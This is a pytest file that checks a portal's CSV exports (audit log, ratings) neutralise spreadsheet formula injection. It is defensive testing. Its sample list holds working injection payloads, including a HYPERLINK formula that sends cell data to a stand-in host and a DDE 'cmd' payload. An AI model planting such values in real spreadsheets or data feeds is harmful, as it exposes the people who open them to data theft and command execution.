"""No CSV the portal writes carries a cell a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from portal.staff.models import Role
from portal.departments.models import Department
from portal.extensions import db
from portal.web.spreadsheet import safe_cell
from tests.admin.conftest import csrf_token, make_staff, signed_in

FORMULAS = ['=HYPERLINK("http://evil.example/?l="&B3&C3,"详情")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1+1", "＝1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _assert_inert(text: str) -> None:
    for cell in _cells(text):
        stripped = cell.lstrip(" ")
        assert not stripped[:1] in ("=", "+", "@", "\t", "\r", "＝") and not (
            stripped.startswith("-") and not stripped.replace("-", "", 1).replace(".", "", 1).isdigit()), cell


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text_and_numbers_stay_numbers(value):
    assert str(safe_cell(value)).startswith("'")
    assert safe_cell("-5.00") == "-5.00" and safe_cell("12") == "12" and safe_cell(7) == 7
    assert safe_cell("普通文字") == "普通文字"


def test_the_audit_export_neutralises_every_column(app):
    make_staff(app, "auditor", Role.AUDITOR)
    client = app.test_client()
    for name in FORMULAS:  # user names typed at the login form land in actor and object_id
        client.post("/admin/login", data={"username": name, "password": "wrong password here",
                                          "csrf_token": csrf_token(client, "/admin/login")})
    export = signed_in(app, "auditor").get("/admin/audit.csv").get_data(as_text=True)
    assert "hyperlink" in export.lower()  # the rows are there …
    _assert_inert(export)  # … and none would run


def test_the_ratings_csv_neutralises_a_hostile_department_name(published_app):
    with published_app.app_context():
        db.session.execute(update(Department).where(Department.slug == "office").values(name='=HYPERLINK("http://e.example",1)'))
        db.session.commit()
    export = published_app.test_client().get("/ratings/2025.csv").get_data(as_text=True)
    assert "HYPERLINK" in export
    _assert_inert(export)
